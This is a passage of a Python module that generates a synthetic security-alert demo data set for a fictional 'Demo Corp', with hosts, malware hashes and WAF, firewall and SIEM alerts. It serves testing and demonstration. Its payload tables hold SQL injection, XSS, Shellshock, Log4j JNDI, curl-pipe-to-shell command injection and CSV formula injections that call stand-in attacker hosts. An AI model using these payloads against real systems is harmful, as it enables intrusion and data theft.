"""The "Demo Corp" data set, as native ingestion payloads.

Pure functions: given a seed and "now" they return the same accounts, hosts,
alerts and logs every time, so loading the demo again sends the same alert
uuids and changes nothing. Times are relative to "now" (the last 30 days,
denser recently) so the demo always looks current.

Every address comes from the documentation ranges of RFC 5737 and every
domain from the reserved ``.example`` names: nothing points at a real third
party. Our hosts' public addresses are in 198.51.100.0/24, attackers in
203.0.113.0/24 and attacker infrastructure (C2, download and mining servers)
in 192.0.2.0/24. File paths such as ``/tmp/...`` are data that the alerts
report, never files this code touches.
"""

import hashlib
import json
import random
import uuid
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from typing import NamedTuple
from urllib.parse import quote

from secops import attck
from secops.enums import RegionGroup, Role

DEMO_ORGANISATION = "Demo Corp"
DEFAULT_SEED = 20240611
DEFAULT_ALERT_COUNT = 2400
# A whitelist policy group of the demo: name, scenario, conditions.
DEMO_WHITELIST_GROUP = (
    "Routine port scans",
    "abnormal_network",
    [("alert_name", "equals", "TCP port scan")],
)
HISTORY = timedelta(days=30)

_NAMESPACE = uuid.UUID("af379452-038c-47e9-9ff4-0472b6dd5d6c")
_CHINA_TIME = timezone(timedelta(hours=8))


# --- tenancy -------------------------------------------------------------------


@dataclass(frozen=True)
class DemoAccount:
    uid: str
    name: str
    region: str
    managed: bool = True


PRODUCTION = DemoAccount("1234567890123456", "Demo Production", RegionGroup.CHINA)
WEB_SHOP = DemoAccount("2345678901234567", "Demo Web Shop", RegionGroup.OUTSIDE_CHINA)
ANALYTICS = DemoAccount("3456789012345678", "Demo Analytics", RegionGroup.CHINA)
SANDBOX = DemoAccount("4567890123456789", "Demo Sandbox", RegionGroup.OUTSIDE_CHINA, managed=False)
DEMO_ACCOUNTS = (PRODUCTION, WEB_SHOP, ANALYTICS, SANDBOX)


@dataclass(frozen=True)
class DemoUser:
    username: str
    default_password: str
    global_admin: bool
    memberships: tuple[tuple[str, str], ...]
    description: str


# Demo credentials: seed_demo prints them, and they pass Django's validators.
DEMO_ADMIN = DemoUser(
    "admin",
    "Tidal-Harbor-Lantern-42",
    True,
    tuple((account.uid, Role.ADMIN.value) for account in DEMO_ACCOUNTS),
    "global administrator, member of every account",
)
DEMO_ANALYST = DemoUser(
    "analyst",
    "Quiet-Meadow-Compass-17",
    False,
    ((PRODUCTION.uid, Role.ANALYST.value),),
    f"analyst of {PRODUCTION.name} only",
)
DEMO_USERS = (DEMO_ADMIN, DEMO_ANALYST)


# --- hosts ---------------------------------------------------------------------

UBUNTU = "Ubuntu 22.04.4 LTS"
DEBIAN = "Debian GNU/Linux 12 (bookworm)"
CENTOS = "CentOS Linux 7.9.2009"
ALINUX = "Alibaba Cloud Linux 3.2104 LTS"
WINDOWS_2016 = "Windows Server 2016 Datacenter"
WINDOWS_2019 = "Windows Server 2019 Datacenter"
WINDOWS_2022 = "Windows Server 2022 Datacenter"

# A host's role decides which attacks reach it: only hosts with a public
# address see inbound attacks, only web servers sit behind the WAF.
WEB, APP, DB, BASTION, WINDOWS, IIS = "web", "app", "db", "bastion", "windows", "iis"
_EXPOSED_ROLES = {WEB, BASTION, WINDOWS, IIS}

_HOST_PLAN = (
    # account, name, role, operating system, cloud region
    (PRODUCTION, "web-01", WEB, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "web-02", WEB, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "web-03", WEB, CENTOS, "cn-shanghai"),
    (PRODUCTION, "api-01", APP, ALINUX, "cn-hangzhou"),
    (PRODUCTION, "api-02", APP, ALINUX, "cn-shanghai"),
    (PRODUCTION, "db-01", DB, CENTOS, "cn-hangzhou"),
    (PRODUCTION, "db-02", DB, CENTOS, "cn-shanghai"),
    (PRODUCTION, "redis-01", DB, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "jump-01", BASTION, UBUNTU, "cn-hangzhou"),
    (PRODUCTION, "win-ad-01", WINDOWS, WINDOWS_2019, "cn-hangzhou"),
    # One account can hold data in both region groups.
    (PRODUCTION, "web-sg-01", WEB, UBUNTU, "ap-southeast-1"),
    (WEB_SHOP, "shop-web-01", WEB, DEBIAN, "ap-southeast-1"),
    (WEB_SHOP, "shop-web-02", WEB, DEBIAN, "ap-southeast-1"),
    (WEB_SHOP, "shop-web-03", WEB, DEBIAN, "eu-central-1"),
    (WEB_SHOP, "shop-api-01", APP, UBUNTU, "eu-central-1"),
    (WEB_SHOP, "pay-api-01", APP, UBUNTU, "us-west-1"),
    (WEB_SHOP, "shop-db-01", DB, UBUNTU, "ap-southeast-1"),
    (WEB_SHOP, "shop-db-02", DB, UBUNTU, "eu-central-1"),
    (WEB_SHOP, "win-iis-01", IIS, WINDOWS_2016, "us-west-1"),
    (WEB_SHOP, "win-build-01", WINDOWS, WINDOWS_2022, "ap-southeast-1"),
    (WEB_SHOP, "shop-cn-web-01", WEB, ALINUX, "cn-shanghai"),
    (ANALYTICS, "etl-01", APP, ALINUX, "cn-beijing"),
    (ANALYTICS, "spark-01", APP, CENTOS, "cn-beijing"),
    (ANALYTICS, "spark-02", APP, CENTOS, "cn-beijing"),
    (ANALYTICS, "spark-03", APP, CENTOS, "cn-beijing"),
    (ANALYTICS, "kafka-01", APP, ALINUX, "cn-beijing"),
    (ANALYTICS, "bi-win-01", WINDOWS, WINDOWS_2019, "cn-beijing"),
    (SANDBOX, "sandbox-web-01", WEB, UBUNTU, "us-west-1"),
    (SANDBOX, "sandbox-01", APP, DEBIAN, "eu-central-1"),
    (SANDBOX, "sandbox-win-01", WINDOWS, WINDOWS_2022, "eu-central-1"),
)
_PRIVATE_SUBNET = {
    PRODUCTION.uid: "10.10.1",
    WEB_SHOP.uid: "172.16.5",
    ANALYTICS.uid: "10.20.3",
    SANDBOX.uid: "172.16.200",
}
_WEB_DOMAIN = {
    PRODUCTION.uid: "www.demo-corp.example",
    WEB_SHOP.uid: "shop.demo-corp.example",
    ANALYTICS.uid: "bi.demo-corp.example",
    SANDBOX.uid: "sandbox.demo-corp.example",
}


@dataclass(frozen=True)
class Host:
    account: DemoAccount
    name: str
    role: str
    os: str
    cloud_region: str
    uuid: str
    instance_id: str
    private_ip: str
    public_ip: str | None

    @property
    def is_windows(self) -> bool:
        return self.os.startswith("Windows")

    @property
    def domain(self) -> str:
        return _WEB_DOMAIN[self.account.uid]

    def asset(self) -> dict:
        return {
            "instance_id": self.instance_id,
            "uuid": self.uuid,
            "name": self.name,
            "public_ip": self.public_ip,
            "private_ip": self.private_ip,
            "os": self.os,
            "region": self.cloud_region,
        }


def build_hosts(seed: int) -> list[Host]:
    hosts = []
    for number, (account, name, role, os_name, cloud_region) in enumerate(_HOST_PLAN, start=1):
        exposed = role in _EXPOSED_ROLES or name == "redis-01"
        hosts.append(
            Host(
                account=account,
                name=name,
                role=role,
                os=os_name,
                cloud_region=cloud_region,
                uuid=_uuid(seed, "host", account.uid, name),
                instance_id="i-" + _hex(seed, "instance", account.uid, name)[:20],
                private_ip=f"{_PRIVATE_SUBNET[account.uid]}.{10 + number}",
                public_ip=f"198.51.100.{10 + number}" if exposed else None,
            )
        )
    return hosts


# --- attackers and their tools -------------------------------------------------

# A few addresses do most of the attacking, across hosts and accounts, so
# that aggregation by attacker IP produces events of many alerts.
_ATTACKER_IPS = tuple(f"203.0.113.{n}" for n in (7, 23, 45, 88, 101, 119, 134, 150, 177, 199, 211))
_ATTACKER_WEIGHTS = tuple(1 / rank for rank in range(1, len(_ATTACKER_IPS) + 1))
_C2_SERVERS = ("192.0.2.77", "192.0.2.91", "192.0.2.140")
_DOWNLOAD_SERVER, _DOWNLOAD_DOMAIN = "192.0.2.45", "dl.update-cdn.example"
_POOL_IP, _POOL_DOMAIN, _POOL_PORT = "192.0.2.200", "pool.xmr-mine.example", 3333
_MIRROR_IP, _MIRROR_DOMAIN = "198.51.100.250", "mirrors.example.org"
_BENIGN_CLIENTS = tuple(f"198.51.100.{n}" for n in range(120, 200))
_ATTACK_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "sqlmap/1.7.2#stable",
)


@dataclass(frozen=True)
class MaliciousFile:
    family: str
    path: str
    md5: str
    sha256: str


_MALICIOUS_FILES = {
    "miner": ("Miner.Linux.XMRig", "/tmp/kdevtmpfsi"),
    "kinsing": ("Trojan.Linux.Kinsing", "/var/tmp/kinsing"),
    "kworkerd": ("Backdoor.Linux.Kworkerd", "/tmp/.ICE-unix/kworkerd"),
    "tsunami": ("Backdoor.Linux.Tsunami", "/usr/bin/.sshd"),
    "gafgyt": ("Trojan.Linux.Gafgyt", "/var/run/.x/gafgyt.x86"),
    "dropper": ("Trojan.Shell.Dropper", "/tmp/x.sh"),
    "php_shell": ("Webshell.PHP.Generic", "/var/www/html/uploads/cmd.php"),
    "jsp_shell": ("Webshell.JSP.Behinder", "/opt/tomcat/webapps/ROOT/uploads/help.jsp"),
    "aspx_shell": ("Webshell.ASPX.Chopper", r"C:\inetpub\wwwroot\upload\shell.aspx"),
    "rootkit_so": ("Rootkit.Linux.ProcessHider", "/usr/local/lib/libprocesshider.so"),
    "rootkit_ko": ("Rootkit.Linux.Diamorphine", "/lib/modules/diamorphine.ko"),
    "win_miner": ("Miner.Win64.XMRig", r"C:\Windows\Temp\xmrig.exe"),
    "mimikatz": ("HackTool.Win64.Mimikatz", r"C:\ProgramData\m64.exe"),
    "win_trojan": ("Trojan.Win32.Agent", r"C:\Users\Public\svchosts.exe"),
}


def malicious_files(seed: int) -> dict[str, MaliciousFile]:
    """The attackers' files; the same hashes turn up on several hosts and accounts."""
    files = {}
    for key, (family, path) in _MALICIOUS_FILES.items():
        identity = f"{seed}/file/{key}".encode()
        md5 = hashlib.md5(identity, usedforsecurity=False).hexdigest()
        files[key] = MaliciousFile(family, path, md5, hashlib.sha256(identity).hexdigest())
    return files


# Per alert type: ATT&CK tactic and technique, and the Security Center
# category and data source that report it.
_ATTCK = {
    "webshell": ("Persistence", "T1505.003 Server Software Component: Web Shell"),
    "reverse_shell": ("Execution", "T1059.004 Command and Scripting Interpreter: Unix Shell"),
    "brute_force": ("Credential Access", "T1110.001 Brute Force: Password Guessing"),
    "malicious_process": ("Execution", "T1059 Command and Scripting Interpreter"),
    "mining": ("Impact", "T1496 Resource Hijacking"),
    "web_attack": ("Initial Access", "T1190 Exploit Public-Facing Application"),
    "suspicious_login": ("Initial Access", "T1078 Valid Accounts"),
    "abnormal_network": ("Command and Control", "T1071 Application Layer Protocol"),
    "malicious_file": ("Execution", "T1204.002 User Execution: Malicious File"),
    "rootkit": ("Defense Evasion", "T1014 Rootkit"),
    "compromised_software": ("Persistence", "T1554 Compromise Host Software Binary"),
}
# Alerts whose ATT&CK stage is not their type's: the Cloud Firewall IPS hits
# of the type "abnormal network connection" are exploits, scans and the like.
_HIT_ATTCK = {
    "Apache Log4j2 remote code execution (CVE-2021-44228)": (
        "Initial Access",
        "T1190 Exploit Public-Facing Application",
    ),
    "Redis unauthorised access attempt": (
        "Initial Access",
        "T1190 Exploit Public-Facing Application",
    ),
    "TCP port scan": ("Reconnaissance", "T1595 Active Scanning"),
    "SMB remote code execution (MS17-010)": (
        "Lateral Movement",
        "T1210 Exploitation of Remote Services",
    ),
}
_SECURITY_CENTER_CATEGORY = {
    "webshell": ("Website backdoor", "aegis_suspicious_file_v2"),
    "malicious_file": ("Malicious file", "aegis_suspicious_file_v2"),
    "brute_force": ("Brute-force attack", "aegis_login_log"),
    "suspicious_login": ("Unusual Logon", "aegis_login_log"),
    "abnormal_network": ("Abnormal network connection", "aegis_suspicious_event"),
    "rootkit": ("Rootkit", "aegis_suspicious_event"),
    "compromised_software": ("Compromised basic software", "aegis_suspicious_event"),
}
_DEFAULT_CATEGORY = ("Suspicious process", "aegis_suspicious_event")
# The products' own words for the levels, as their raw payloads carry them.
_SECURITY_CENTER_LEVEL = {"high": "serious", "medium": "suspicious", "low": "remind"}
_NUMERIC_LEVEL = {"high": 3, "medium": 2, "low": 1}


def _uuid(seed: int, *parts) -> str:
    return str(uuid.uuid5(_NAMESPACE, "/".join(str(part) for part in (seed, *parts))))


def _hex(seed: int, *parts) -> str:
    return hashlib.sha256("/".join(str(part) for part in (seed, *parts)).encode()).hexdigest()


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="seconds")


def _china_time(moment: datetime) -> str:
    return moment.astimezone(_CHINA_TIME).strftime("%Y-%m-%d %H:%M:%S")


# --- entities ------------------------------------------------------------------


def _ip(value: str, role: str = "related") -> dict:
    return {"type": "ip", "role": role, "value": value}


def _file(file: MaliciousFile, role: str = "attacker") -> dict:
    return {"type": "file", "role": role, "path": file.path, "md5": file.md5, "sha256": file.sha256}


def _process(pid, ppid, path, cmdline, user, role="related") -> dict:
    return {
        "type": "process",
        "role": role,
        "pid": pid,
        "ppid": ppid,
        "path": path,
        "cmdline": cmdline,
        "user": user,
    }


def _user(name, logon_type, src_ip, role="related") -> dict:
    return {"type": "user", "role": role, "name": name, "logon_type": logon_type, "src_ip": src_ip}


def _entity(entity_type: str, value: str, role: str = "related") -> dict:
    return {"type": entity_type, "role": role, "value": value}


def _details(entities: list[dict]) -> list[dict]:
    """Security Center's ``Details`` list: what its console shows about an alert."""
    pairs = []
    for entity in entities:
        if entity["type"] == "file":
            pairs += [("File path", entity["path"]), ("MD5", entity["md5"])]
        elif entity["type"] == "process":
            pairs += [("Process path", entity["path"]), ("Command line", entity["cmdline"])]
        elif entity["type"] == "user":
            pairs += [("User", entity["name"]), ("Logon type", entity["logon_type"])]
        elif entity["type"] != "host":
            pairs.append(
                ({"ip": "IP"}.get(entity["type"], entity["type"].title()), entity["value"])
            )
    return [{"NameDisplay": n, "Type": "text", "Value": v, "ValueDisplay": v} for n, v in pairs]


# --- alerts --------------------------------------------------------------------


@dataclass
class _Campaign:
    """One attacker's run against one or more hosts: its alerts share the
    attacker's address, tools and time, as those of a real attack do."""

    kind: str
    attacker_ip: str
    c2_ip: str
    hosts: list[Host]
    start: datetime
    variant: int


@dataclass(frozen=True)
class _Kind:
    key: str  # the _AlertGenerator method that builds its alerts, or a key of _WEB_ATTACKS
    weight: float
    sizes: tuple[int, int]  # alerts per campaign
    targets: str  # which hosts it attacks, a key of _AlertGenerator.targets
    spread: tuple[int, int] = (1, 1)  # how many hosts one campaign reaches


# Weights chosen so the sources come out roughly as a mid-sized cloud
# customer sees them: host security and WAF dominate, firewall and SIEM add less.
_KINDS = (
    _Kind("ssh_brute_force", 7, (4, 30), "exposed_linux", (1, 3)),
    _Kind("waf_sqli", 6, (3, 40), "web", (1, 6)),
    _Kind("cfw_inbound", 5, (2, 20), "exposed", (1, 5)),
    _Kind("siem_detection", 4, (1, 12), "any"),
    _Kind("rdp_brute_force", 3, (4, 25), "exposed_windows"),
    _Kind("waf_xss", 4, (2, 25), "web", (1, 4)),
    _Kind("cfw_outbound_c2", 3, (2, 15), "any", (1, 3)),
    _Kind("suspicious_login", 4, (1, 4), "exposed"),
    _Kind("waf_rce", 3, (2, 20), "web", (1, 6)),
    _Kind("mining", 3, (2, 10), "linux", (1, 5)),
    _Kind("waf_scanner", 4, (5, 40), "web", (1, 8)),
    _Kind("malicious_process", 3, (1, 6), "linux", (1, 2)),
    _Kind("cfw_mining_pool", 2, (2, 12), "linux", (1, 4)),
    _Kind("malicious_file", 3, (1, 5), "linux", (1, 4)),
    _Kind("waf_formula", 1, (1, 4), "web", (1, 2)),
    _Kind("webshell", 2, (1, 3), "linux_web"),
    _Kind("windows_malware", 2, (1, 5), "windows", (1, 2)),
    _Kind("reverse_shell", 1, (1, 3), "linux"),
    _Kind("rootkit", 1, (1, 2), "linux"),
    _Kind("compromised_software", 1, (1, 4), "redis"),
    _Kind("iis_webshell", 1, (1, 2), "iis"),
)

# WAF attacks: name, WAF rule type, level, method, path, parameter, payloads.
# Payloads are attacker-controlled text; some carry HTML and spreadsheet
# formulas so that pages and exports are seen to neutralise them.
# fmt: off
_WEB_ATTACKS = {
    "waf_sqli": [
        ("SQL injection", "sqli", "medium", "GET", "/product.php", "id",
         ("1' OR '1'='1' -- ", "1 UNION SELECT username,password FROM users-- ",
          "1' AND SLEEP(5)-- ", "1;DROP TABLE orders-- ")),
    ],
    "waf_xss": [
        ("Cross-site scripting", "xss", "medium", "GET", "/search", "q",
         ("<script>alert(1)</script>", '"><img src=x onerror=alert(document.cookie)>',
          "<svg/onload=alert('xss')>")),
        ("Cross-site scripting in a comment", "xss", "low", "POST", "/reviews", "body",
         ("<script>alert(1)</script>", "javascript:alert(document.domain)//")),
    ],
    "waf_rce": [
        ("Remote code execution: Log4j JNDI lookup", "code_exec", "high", "GET", "/api/v1/login",
         "user", ("${jndi:ldap://192.0.2.91:1389/Exploit}",)),
        ("Remote code execution: Shellshock", "code_exec", "high", "GET", "/cgi-bin/status", "",
         ("() { :; }; /bin/bash -c 'cat /etc/passwd'",)),
        ("Command injection", "code_exec", "high", "POST", "/admin/ping", "host",
         ("127.0.0.1;curl http://192.0.2.45/x.sh|sh",)),
    ],
    "waf_scanner": [
        ("Sensitive file scan", "other", "low", "GET", "", "",
         ("/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/index.php", "/actuator/env",
          "/manager/html", "/backup.zip")),
        ("Path traversal", "lfilei", "medium", "GET", "/download", "file",
         ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow")),
    ],
    "waf_formula": [
        ("CSV formula injection in a form field", "other", "low", "POST", "/account/profile",
         "display_name",
         ('=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click for your invoice")',
          "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C powershell IEX(wget 203.0.113.9/p)'!A0")),
    ],
}
# The attack story's way in.
_STRUTS_UPLOAD = ("Malicious file upload (Struts2 path traversal)", "webshell", "high", "POST",
                  "/upload/ImageUpload.action", "uploadFileName", ())
# fmt: on

# Cloud Firewall IPS hits: name, alert type, level, application, attack type.
# fmt: off
_INBOUND_ATTACKS = (  # ... and the port they aim at
    ("Apache Log4j2 remote code execution (CVE-2021-44228)", "abnormal_network", "high",
     "HTTPS", "Command execution", 443),
    ("Redis unauthorised access attempt", "abnormal_network", "medium", "Redis",
     "Suspicious connection", 6379),
    ("SSH brute-force attempt", "brute_force", "medium", "SSH", "Brute force", 22),
    ("TCP port scan", "abnormal_network", "low", "Unknown", "Scanning", 8080),
    ("SMB remote code execution (MS17-010)", "abnormal_network", "high", "SMB",
     "Buffer overflow", 445),
)
_C2_CONNECTION = ("Outbound connection to a known C2 server", "abnormal_network", "high",
                  "Unknown", "Trojan/backdoor")
_POOL_CONNECTION = ("Mining behavior on the host", "mining", "high", "Stratum", "Mining Behavior")
# fmt: on

# Our own detection rules over logs: id, name, alert type, level, query.
# fmt: off
_SIEM_RULES = (
    ("SIEM-BF-001", "Multiple failed logons followed by a success", "brute_force", "high",
     "log_type:login | stats count(result='failure') as failures, count(result='success') "
     "as successes by src_ip, host_uuid | where failures > 20 and successes > 0"),
    ("SIEM-NET-004", "Beaconing to a rare external destination", "abnormal_network", "medium",
     "log_type:network and direction:out | stats count() as connections, stddev(interval) "
     "as jitter by dst_ip | where connections > 30 and jitter < 5"),
    ("SIEM-PROC-012", "Shell spawned by a web server process", "malicious_process", "high",
     "log_type:process and parent_path:(*java OR *php-fpm* OR *nginx) "
     "and path:(/bin/sh OR /bin/bash)"),
    ("SIEM-DNS-007", "DNS query for a mining pool domain", "mining", "medium",
     "log_type:dns and domain:*xmr*"),
    ("SIEM-WEB-003", "Burst of 4xx responses for one client", "web_attack", "low",
     "log_type:http and status>=400 | stats count() by src_ip | where count > 100"),
    ("SIEM-LOGIN-002", "Privileged logon from a new source address", "suspicious_login",
     "medium", "log_type:login and result:success and user:(root OR Administrator) "
     "| where first_seen(src_ip)"),
)
# fmt: on


class _AlertGenerator:
    """Alerts of the four sources, in the shapes the products send them."""

    def __init__(self, seed: int, now: datetime, hosts: Sequence[Host], stream: str = "alerts"):
        self.seed = seed
        self.now = now
        # Separate streams (the background, the attack story) never share uuids.
        self.stream = stream
        self.rng = random.Random(f"{seed}/{stream}")
        self.files = malicious_files(seed)
        self.counters: dict[str, int] = {}
        linux = [host for host in hosts if not host.is_windows]
        windows = [host for host in hosts if host.is_windows]
        self.targets = {
            "any": list(hosts),
            "linux": linux,
            "windows": windows,
            "exposed": [host for host in hosts if host.public_ip],
            "exposed_linux": [host for host in linux if host.public_ip],
            "exposed_windows": [host for host in windows if host.public_ip],
            "web": [host for host in hosts if host.role in (WEB, IIS)],
            "linux_web": [host for host in linux if host.role == WEB],
            "redis": [host for host in linux if host.name == "redis-01"],
            "iis": [host for host in windows if host.role == IIS],
        }

    def generate(self, count: int) -> list[dict]:
        alerts: list[dict] = []
        campaigns = 0
        while len(alerts) < count:
            if campaigns < len(_KINDS):
                # Every kind once first, and briefly, so that even a small demo
                # has every source, scenario and region.
                kind = _KINDS[campaigns]
                size = min(self._size(kind), 3)
            else:
                kind = self.rng.choices(_KINDS, weights=[k.weight for k in _KINDS])[0]
                size = self._size(kind)
            campaign = self._campaign(kind)
            build = self._builder(kind)
            for moment in self._moments(campaign.start, size)[: count - len(alerts)]:
                alerts.append(build(campaign, self.rng.choice(campaign.hosts), moment))
            campaigns += 1
        return alerts

    def _builder(self, kind: _Kind):
        """The method that makes one alert of a campaign of this kind."""
        if kind.key in _WEB_ATTACKS:
            return self._web_attack
        return getattr(self, f"_{kind.key}")

    def _size(self, kind: _Kind) -> int:
        # The smaller of two draws: most campaigns are short, a few are long.
        return min(self.rng.randint(*kind.sizes), self.rng.randint(*kind.sizes))

    def _campaign(self, kind: _Kind) -> _Campaign:
        candidates = self.targets[kind.targets]
        reach = min(self.rng.randint(*kind.spread), len(candidates))
        return _Campaign(
            kind=kind.key,
            attacker_ip=self.rng.choices(_ATTACKER_IPS, weights=_ATTACKER_WEIGHTS)[0],
            c2_ip=self.rng.choice(_C2_SERVERS),
            hosts=self.rng.sample(candidates, reach),
            # Squaring a uniform draw puts more campaigns in recent days.
            start=self.now - HISTORY * (self.rng.random() ** 2),
            variant=self.rng.randrange(1_000_000),
        )

    def _moments(self, start: datetime, size: int) -> list[datetime]:
        earliest = self.now - HISTORY + timedelta(minutes=5)
        latest = self.now - timedelta(minutes=1)
        moments, moment = [], start
        for _ in range(size):
            moments.append(min(max(moment, earliest), latest))
            moment += timedelta(seconds=self.rng.randint(20, 1800))
        return moments

    def _pick(self, campaign: _Campaign, options: Sequence):
        """The campaign's variant: every alert of one campaign uses the same one."""
        return options[campaign.variant % len(options)]

    # -- the sources' envelopes ------------------------------------------------

    def new_identity(self, source: str) -> tuple[int, str]:
        """A running number and a digest unique to this seed, stream and source."""
        number = self.counters[source] = self.counters.get(source, 0) + 1
        return number, _hex(self.seed, self.stream, source, number)

    def alert(
        self,
        source,
        uuid_value,
        host,
        alert_type,
        name,
        level,
        when,
        entities,
        description,
        raw,
        exceptions=(),
    ) -> dict:
        tactic, technique = _HIT_ATTCK.get(name) or _ATTCK[alert_type]
        return {
            "source": source,
            "uuid": uuid_value,
            "account": host.account.uid,
            "type": alert_type,
            "name": name,
            "level": level,
            "occurred_at": _iso(when),
            "asset": host.asset(),
            "entities": entities,
            "attck": {"tactic": tactic, "technique": technique},
            "description": description,
            "exceptions": list(exceptions),
            "raw": raw,
        }

    def security_center(
        self, host, when, alert_type, name, level, entities, description, exceptions=()
    ) -> dict:
        number, digest = self.new_identity("security_center")
        category, data_source = _SECURITY_CENTER_CATEGORY.get(alert_type, _DEFAULT_CATEGORY)
        tactic = _ATTCK[alert_type][0]
        entities = [*entities, _entity("host", host.uuid, "victim")]
        raw = {
            "Id": 700000 + number,
            "UniqueInfo": digest[:32],
            "AlarmUniqueInfo": _hex(self.seed, "alarm", host.uuid, name)[:32],
            "Uuid": host.uuid,
            "InstanceId": host.instance_id,
            "InstanceName": host.name,
            "InternetIp": host.public_ip or "",
            "IntranetIp": host.private_ip,
            "Name": f"{category}-{name}",
            "AlarmEventNameDisplay": name,
            "AlarmEventType": category,
            "Level": _SECURITY_CENTER_LEVEL[level],
            "EventStatus": 1,
            "DataSource": data_source,
            "Desc": description,
            "Details": _details(entities),
            "OccurrenceTime": _china_time(when),
            "OccurrenceTimeStamp": int(when.timestamp() * 1000),
            "SourceAliUid": int(host.account.uid),
            "TacticItems": [{"TacticId": attck.tactic_id(tactic), "TacticDisplayName": tactic}],
        }
        return self.alert(
            "security_center",
            digest[:32],
            host,
            alert_type,
            name,
            level,
            when,
            entities,
            description,
            raw,
            exceptions,
        )

    def waf(self, host, when, campaign, attack, payload, *, blocked=True, user_agent=None):
        name, rule_type, level, method, path, parameter, _ = attack
        _, digest = self.new_identity("waf")
        if not path:  # a scanner probing for a path: the path is the payload
            path, query = payload, ""
        else:
            query = f"{parameter}={quote(payload)}" if parameter else ""
        rule_id = str(110000 + campaign.variant % 9000)
        url = f"https://{host.domain}{path}" + (f"?{query}" if query else "")
        raw = {
            "time": when.astimezone(_CHINA_TIME).isoformat(timespec="seconds"),
            "host": host.domain,
            "matched_host": host.domain,
            "real_client_ip": campaign.attacker_ip,
            "remote_addr": campaign.attacker_ip,
            "remote_port": self.rng.randint(30000, 65000),
            "request_method": method,
            "request_path": path,
            "querystring": query,
            "request_traceid": digest[:30],
            "status": 405 if blocked else 200,
            "upstream_status": "-" if blocked else 200,
            "upstream_addr": f"{host.private_ip}:80",
            "http_user_agent": user_agent or self.rng.choice(_ATTACK_USER_AGENTS),
            "region": "cn" if host.cloud_region.startswith("cn-") else "int",
            "user_id": host.account.uid,
            "waf_rule_type": rule_type,
            "waf_rule_id": rule_id,
            # Monitor mode: the hit is logged but the request reaches the origin.
            "waf_test": "false" if blocked else "true",
        }
        if blocked:
            raw |= {"final_action": "block", "final_plugin": "waf", "final_rule_id": rule_id}
        entities = [
            _ip(campaign.attacker_ip, "attacker"),
            _entity("url", url),
            _entity("payload", payload, "attacker"),
            _entity("domain", host.domain, "victim"),
        ]
        outcome = "blocked" if blocked else "logged in monitor mode and passed to the origin"
        description = (
            f"{method} {path} from {campaign.attacker_ip} matched WAF rule {rule_id} "
            f"({rule_type}); the request was {outcome}."
        )
        exceptions = [f"WAF rule {rule_id} ({rule_type}) hit on {host.domain}"]
        return self.alert(
            "waf",
            digest[:30],
            host,
            "web_attack",
            name,
            level,
            when,
            entities,
            description,
            raw,
            exceptions,
        )

    def cloud_firewall(self, host, when, hit, direction, remote, *, blocked, extra_entities=()):
        name, alert_type, level, app, attack_type = hit
        _, digest = self.new_identity("cloud_firewall")
        remote_ip, remote_port = remote
        ours, our_port = host.public_ip or host.private_ip, self.rng.randint(30000, 65000)
        if direction == "in":
            src, dst, roles = (remote_ip, our_port), (ours, remote_port), ("attacker", "victim")
        else:
            src, dst, roles = (ours, our_port), (remote_ip, remote_port), ("victim", "attacker")
        start = int(when.timestamp())
        raw = {
            "__time__": _china_time(when),
            "log_type": "internet_log",
            "aliuid": host.account.uid,
            "src_ip": src[0],
            "src_port": src[1],
            "dst_ip": dst[0],
            "dst_port": dst[1],
            "src_private_ip": host.private_ip if direction == "out" else "",
            "direction": direction,
            "ip_protocol": "TCP",
            "app_name": app,
            "rule_result": "drop" if blocked else "alert",
            "ips_rule_id": _uuid(self.seed, "ips-rule", name),
            "ips_rule_name_en": name,
            "attack_type_name_en": attack_type,
            "vul_level": _NUMERIC_LEVEL[level],
            "region_id": host.cloud_region,
            "start_time": start,
            "end_time": start + self.rng.randint(1, 90),
        }
        entities = [_ip(src[0], roles[0]), _ip(dst[0], roles[1]), *extra_entities]
        action = "dropped" if blocked else "allowed and alerted"
        description = (
            f"{attack_type}: TCP {src[0]}:{src[1]} -> {dst[0]}:{dst[1]} ({app}), "
            f"{action} by Cloud Firewall."
        )
        return self.alert(
            "cloud_firewall",
            str(uuid.UUID(hex=digest[:32])),
            host,
            alert_type,
            name,
            level,
            when,
            entities,
            description,
            raw,
        )

    # -- campaign kinds: Security Center ---------------------------------------

    def _ssh_brute_force(self, campaign, host, when):
        user = self.rng.choice(("root", "admin", "ubuntu", "oracle", "postgres", "test"))
        attempts = self.rng.randint(30, 900)
        # A few campaigns end in a successful logon.
        succeeded = campaign.variant % 7 == 0 and self.rng.random() < 0.3
        if succeeded:
            name, level = "Successful SSH logon after brute-force attack", "high"
        else:
            name, level = "SSH brute-force attack", self.rng.choice(("medium", "medium", "low"))
        entities = [_ip(campaign.attacker_ip, "attacker"), _user(user, "ssh", campaign.attacker_ip)]
        description = (
            f"{attempts} failed SSH password logons for {user} from {campaign.attacker_ip}"
        )
        description += ", followed by a successful one." if succeeded else "."
        exceptions = [{"name": "Failed logons", "count": attempts, "user": user}]
        return self.security_center(
            host, when, "brute_force", name, level, entities, description, exceptions
        )

    def _rdp_brute_force(self, campaign, host, when):
        # Attackers try odd user names too, spreadsheet formulas among them.
        users = ("Administrator", "admin", "backup", '=HYPERLINK("http://203.0.113.9/","open")')
        user = self.rng.choice(users)
        attempts = self.rng.randint(50, 2000)
        entities = [_ip(campaign.attacker_ip, "attacker"), _user(user, "RDP", campaign.attacker_ip)]
        description = f"{attempts} failed RDP logons for {user} from {campaign.attacker_ip}."
        level = self.rng.choice(("medium", "low"))
        return self.security_center(
            host, when, "brute_force", "RDP brute-force attack", level, entities, description
        )

    def _suspicious_login(self, campaign, host, when):
        variants = (
            ("Login from unusual location", "low"),
            ("Login at unusual time", "low"),
            ("Login with unusual account", "medium"),
        )
        name, level = self._pick(campaign, variants)
        user = "Administrator" if host.is_windows else self.rng.choice(("deploy", "ops", "root"))
        logon = "RDP" if host.is_windows else "ssh"
